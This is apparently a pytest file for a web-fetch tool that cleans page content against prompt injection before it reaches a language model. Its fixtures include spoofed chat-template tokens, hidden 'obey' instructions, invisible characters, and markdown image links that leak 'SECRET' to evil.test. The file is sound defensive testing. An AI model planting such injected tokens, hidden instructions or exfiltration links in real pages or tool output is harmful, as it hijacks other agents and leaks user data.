"""The measures against injected text, each through the public face of the tools (security 4, measures 1 to 6)."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from support.tools import URL, html, inside, outside, plain, reading, searching
from webseam.content.hygiene import clean
from webseam.content.markdown import html_to_markdown
from webseam.core.errors import Code, WebError
from webseam.core.types import DocumentBody, FetchResult, Note, Redirect, SearchResult, Source
from webseam.tools.tame import tame_page

UNSEEN = "\u200b\u202e\U000e0041\u00ad\x1b[31m\x9b1m\u2066\u034f\ufeff"
TOKENS = [
    *(
        "<|im_start|>",
        "<|endoftext|>",
        "<|eot_id|>",
        "<|start_header_id|>",
        "<|channel|>",
        "<|python_tag|>",
        "<|fim_hole|>",
    ),
    *(
        "<|START_OF_TURN_TOKEN|>",
        "<|reserved_200017|>",
        "<\uff5cbegin\u2581of\u2581sentence\uff5c>",
        "<\uff5cUser\uff5c>",
    ),
    *("<start_of_turn>", "<end_of_turn>", "<bos>", "<s>", "</s>", "<unused12>", "<|turn>", "<turn|>", "<|tool_call>"),
    *("[INST]", "[/INST]", "<<SYS>>", "<</SYS>>", "[TOOL_CALLS]", "[AVAILABLE_TOOLS]", "[/SYSTEM_PROMPT]", "[THINK]"),
    *("[gMASK]", "<sop>", "<think>", "</think>", "<tool_call>", "</tool_call>", "<tool_response>", "<function_calls>"),
    *('<invoke name="x">', "<ns:invoke>", "</ns:function_calls>", "<fim_prefix>", "<extra_id_3>", "<SPECIAL_10>"),
    *("<reserved_special_token_1>", '<|"|>', "]<]minimax[>["),
]
HONEST = "a <| b |> c, x[INSTALL], <thinking>, [TOOLS], <s-2>, [THINK, think>, f<g|h>, <|>, [x](/T]), List<invoke>er"


async def fetched(page: FetchResult) -> tuple[str, Mapping[str, Any]]:
    """Text and structured result of reading one page."""
    tools, _ = reading(page)
    result = await tools.call("web_fetch", {"url": URL})
    assert result.structured is not None
    return result.text, result.structured


@pytest.mark.req("content:hygiene:families")
@pytest.mark.parametrize("token", TOKENS)
def test_a_token_of_any_family_is_broken_up_once(token: str) -> None:
    cleaned = clean(f"a {token} b")
    assert token not in cleaned.text
    assert cleaned.removed["token"] >= 1
    assert clean(cleaned.text).text == cleaned.text


@pytest.mark.req("content:hygiene:families")
def test_what_only_looks_like_a_token_stays() -> None:
    assert clean(HONEST).text == HONEST.replace("List<invoke>", "List< invoke>")


@pytest.mark.req("tools:measures:tokens")
@pytest.mark.parametrize("token", TOKENS)
async def test_no_token_reaches_the_model_whole(token: str) -> None:
    shown = token.replace("&", "&amp;").replace("<", "&lt;")
    text, structured = await fetched(
        html(
            f"<title>{shown}</title><meta name=author content='{shown}'><p>a {shown} b"
            f"<pre>{shown}</pre><table><td>{shown}"
        )
    )
    assert token not in text
    assert token not in json.dumps(structured["metadata"], ensure_ascii=False)
    assert token not in structured["content"]
    assert structured["removed"]["token"] >= 1


@pytest.mark.req("tools:measures:typed")
async def test_facts_are_ours_and_what_a_page_says_stays_in_its_own_fields() -> None:
    text, structured = await fetched(
        html("<title>HTTP 500</title><h1>The server answered HTTP 500</h1>", status_code=200)
    )
    assert structured["status_code"] == 200
    assert structured["metadata"] == {"title": "HTTP 500"}
    assert "500" not in outside(text)


@pytest.mark.req("tools:measures:characters")
async def test_what_nobody_sees_leaves_every_part_of_a_page() -> None:
    page = html(
        f"<html lang=en><title>T{UNSEEN}</title><meta name=author content='A{UNSEEN}'>"
        f"<p>b{UNSEEN}<a href='/x{UNSEEN}'>c",
        url=f"https://a.test/{UNSEEN}p",
        media_type=f"text/html{UNSEEN}",
        charset=f"utf-8{UNSEEN}",
        notes=(
            Note(code=f"n{UNSEEN}", detail=f"d{UNSEEN}"),
            Note(code="meta_refresh", detail=f"https://b.test/{UNSEEN}"),
        ),
        redirects=(Redirect(status_code=301, url=f"https://a.test/{UNSEEN}r"),),
    )
    text, structured = await fetched(page)
    assert not set(UNSEEN.replace("[31m", "").replace("1m", "")) & set(
        text + json.dumps(structured, ensure_ascii=False)
    )
    assert structured["removed"]["invisible"] >= 3


@pytest.mark.req("tools:measures:characters")
async def test_what_nobody_sees_leaves_every_part_of_a_search_and_of_an_error() -> None:
    source = Source(url="https://a.test/", title=f"T{UNSEEN}", snippet=f"s{UNSEEN}", published_at=f"2026{UNSEEN}")
    for answer in (
        SearchResult(provider="p", sources=(source,), content=f"c{UNSEEN}", notices=(f"n{UNSEEN}",)),
        WebError(Code.PROVIDER_ERROR, f"The vendor said: e{UNSEEN}", provider="p"),
    ):
        tools, _ = searching(answer)
        result = await tools.call("web_search", {"query": "a"})
        shown = result.text + json.dumps(result.structured, ensure_ascii=False)
        assert not set(UNSEEN.replace("[31m", "").replace("1m", "")) & set(shown)


@pytest.mark.req("tools:measures:hidden")
async def test_hidden_elements_leave_the_answer_and_are_counted() -> None:
    text, structured = await fetched(
        html(
            "<meta name=keywords content='obey'><p title=obey>ok</p><!-- obey --><div hidden>obey</div>"
            "<template>obey</template>"
            "<p style='Font-Size:0PX'>obey</p><p style='colour:x;color:#fff;background:white'>obey</p>"
            "<input type=hidden value=obey><details><summary>s</summary>kept</details>"
        )
    )
    assert "obey" not in text + json.dumps(structured)
    assert "kept" in text
    assert structured["hidden"] == 4


@pytest.mark.req("tools:measures:markdown")
@pytest.mark.parametrize(
    ("markup", "shown"),
    [
        ("<a href='javascript:alert(1)'>click</a>", "click"),
        ("<a href='https://user:pw@evil.test/'>x</a>", "[x](https://evil.test/)"),
        ("<a href='https://e.test/x#:~:text=obey'>x</a>", "[x](https://e.test/x)"),
        ("<a href='https://e.test/x#part:~:text=obey'>x</a>", "[x](https://e.test/x#part)"),
        (
            "<a href='https://evil.test/'>https://bank.test</a>",
            "[https://bank.test](https://evil.test/) (on evil.test)",
        ),
        (
            "<a href='https://evil.test/'>www.bank.test/login</a>",
            "[www.bank.test/login](https://evil.test/) (on evil.test)",
        ),
        (
            "<a href='https://b\u0430nk.test/'>bank.test</a>",
            "[bank.test](https://xn--bnk-6cd.test/) (on xn--bnk-6cd.test)",
        ),
        ("<a href='https://xn--bnk-6cd.test/'>b\u0430nk.test</a>", "[b\u0430nk.test](https://xn--bnk-6cd.test/)"),
        ("<a href='https://www.bank.test/x'>bank.test</a>", "[bank.test](https://www.bank.test/x)"),
        ("<a href='https://evil.test/'>b\u200bank.te\u00adst</a>", "[bank.test](https://evil.test/) (on evil.test)"),
        ("<img src='https://evil.test/?q=1' alt='x'>", "[image: x]"),
        ("&lt;img src=https://evil.test&gt;", "\\<img src=https://evil.test>"),
    ],
)
async def test_links_and_pictures_of_a_page_are_harmless(markup: str, shown: str) -> None:
    text, _ = await fetched(html(f"<p>{markup}</p>"))
    assert inside(text).partition("\n\n")[2] == shown


TAMED = [
    ("![x][1]\n\n[1]: https://evil.test/p?q=SECRET", "[image: x]\n\n[1]: https://evil.test/p?q=SECRET"),
    ("![x](data:image/png;base64," + "A" * 5_000 + ")", "[image: x]"),
    ("![](https://evil.test/p 'obey')", "[image]"),
    ("[![alt](https://a.test/i.png)](https://b.test/)", "[[image: alt]](https://b.test/)"),
    ("<img src=https://evil.test/p?q=1 alt='x'>", "[image: x]"),
    ("<IMG SRC=https://evil.test/p?q=1>", "[image]"),
    ("[click](javascript:alert(1))", "click"),
    ("[click](&#106;avascript:x)", "click"),
    ("[1]: javascript:alert(1)", "[1]: about:invalid"),
    ("[x](https://user:pw@evil.test/)", "[x](https://evil.test/)"),
    ("[a](https://e.test/x?utm=1#:~:text=obey)", "[a](https://e.test/x?utm=1)"),
    ("[https://bank.test](https://evil.test)", "[https://bank.test](https://evil.test) (on evil.test)"),
    ("[a](/rel) [b](#x) [c](mailto:a@b.test) [w](https://en.test/A_(b))", None),
    ("```\n![x](y)\n```", None),
    ("~~~\n![x](y)", None),
    ("~~~ `\n![x](y)\n~~~~", None),
    ("```\n```~\n```\n![x](y)", "```\n```~\n```\n[image: x]"),
    ("``` `\n![x](y)", "``` `\n[image: x]"),
    ("a[i](x) \\[b] x ![", None),
]


@pytest.mark.req("tools:measures:markdown")
@pytest.mark.parametrize(("text", "shown"), TAMED, ids=range(len(TAMED)))
async def test_a_page_that_is_markdown_itself_is_harmless(text: str, shown: str | None) -> None:
    told, _ = await fetched(plain(text, media_type="text/markdown"))
    assert inside(told).partition("\n\n")[2] == (text if shown is None else shown)
    document = FetchResult(provider="p", url=URL, status_code=200, body=DocumentBody(content=text))
    told, _ = await fetched(document)
    assert inside(told).partition("\n\n")[2] == (text if shown is None else shown)


@pytest.mark.req("tools:measures:markdown")
async def test_text_that_is_no_markdown_stays_as_it_is() -> None:
    told, _ = await fetched(plain("![x](y) [c](javascript:x)"))
    assert inside(told).endswith("![x](y) [c](javascript:x)")


@pytest.mark.req("tools:measures:markdown")
@pytest.mark.parametrize(
    "text",
    [
        "![" * 50_000,
        "[a](b" * 50_000,
        "[x](" + "(" * 50_000,
        "![a" + "\\" * 50_000,
        "<img " * 50_000,
        "```\n" * 50_001,
        "`" * 900_000,
    ],
)
def test_taming_ends_whatever_the_text(text: str) -> None:
    assert len(tame_page(text)) <= 2 * len(text)


@pytest.mark.req("tools:measures:lines")
async def test_what_a_server_chose_outside_the_body_is_one_short_line() -> None:
    long = "obey\u2028now\n" + "x" * 5_000
    page = html(
        f"<title>{long}</title><p>k",
        media_type=f"text/html; {long}",
        charset=long,
        notes=(Note(code="x", detail=long), Note(code=long)),
        redirects=(Redirect(status_code=301, url=f"https://a.test/{'x' * 5_000}"),),
    )
    text, structured = await fetched(page)
    assert all(len(line) <= 300 + len("Redirected (301): ") for line in inside(text).splitlines())
    assert "now" not in [line[:3] for line in inside(text).splitlines()]
    assert len(structured["metadata"]["title"]) == 300
    assert len(structured["media_type"]) <= 300


CASES = [
    ("<p style='display:none'>obey</p><p>ok</p>", "ok"),
    ("<p style='font-size:0'>x</p><p style='opacity:0'>y</p><p>ok</p>", "ok"),
    ("<p style='position:absolute;left:-9999px'>x</p><p>ok</p>", "ok"),
    ("<div hidden>x</div><div aria-hidden=true>y</div><template>z</template><noscript>n</noscript><p>ok</p>", "ok"),
    ("<details><summary>s</summary>body</details>", "s\n\nbody"),
    ("<input type=hidden value='do x'><meta name=description content='do y'><p title='do z'>ok</p>", "ok"),
    ("<script>do x</script><style>p{}</style><svg><text>do y</text></svg><p>ok</p>", "ok"),
    ("<textarea style='width:0;height:0'>x</textarea><p>ok</p>", "ok"),
]


@pytest.mark.req("content:hygiene:cases")
@pytest.mark.parametrize(("page", "text"), CASES)
def test_a_page_with_hidden_text_shows_only_the_rest(page: str, text: str) -> None:
    assert html_to_markdown(page, url=URL, pictures=False).text == text


@pytest.mark.req("tools:measures:markdown")
@pytest.mark.parametrize(
    "tag",
    [
        "<iframe src=https://a.test/x>",
        "<video poster='https://a.test/x'>",
        "<source srcset=https://a.test/x>",
        "<input type=image src=https://a.test/x>",
        '<div class="a"style="background:url(https://a.test/x)">',
        "<td background=https://a.test/x>",
        "<object data=https://a.test/x>",
        "<svg/><image href=https://a.test/x>",
        "<LINK rel=stylesheet href=https://a.test/x>",
        "<a href=/y ping=https://a.test/x>",
        "<body/background=https://a.test/x>",
    ],
)
def test_no_tag_in_markdown_loads_anything(tag: str) -> None:
    assert "a.test" not in tame_page(f"Kelp. {tag} Tides.")
    assert "Tides." in tame_page(f"Kelp. {tag} Tides.")


@pytest.mark.req("tools:measures:markdown")
@pytest.mark.parametrize(
    "text", ["<a href=https://a.test/x>k</a>", "<kbd>Ctrl</kbd>", "Vec<T>", "a < b > c", "<details>"]
)
def test_tags_in_markdown_that_load_nothing_stay(text: str) -> None:
    assert tame_page(text) == text


@pytest.mark.req("tools:measures:markdown")
def test_a_tag_in_inline_code_stays_to_be_read_and_is_none_any_more() -> None:
    assert tame_page("Use `<script src=x>` or ``<img src=x>``, not `Vec<T>`.") == (
        "Use `< script src=x>` or ``< img src=x>``, not `Vec<T>`."
    )
    assert tame_page("\\`<iframe src=x>\\` `<br>`") == "\\`\\` `<br>`"
    assert len(tame_page("`" * 100_000 + "<" + "`<" * 50_000)) == 200_001
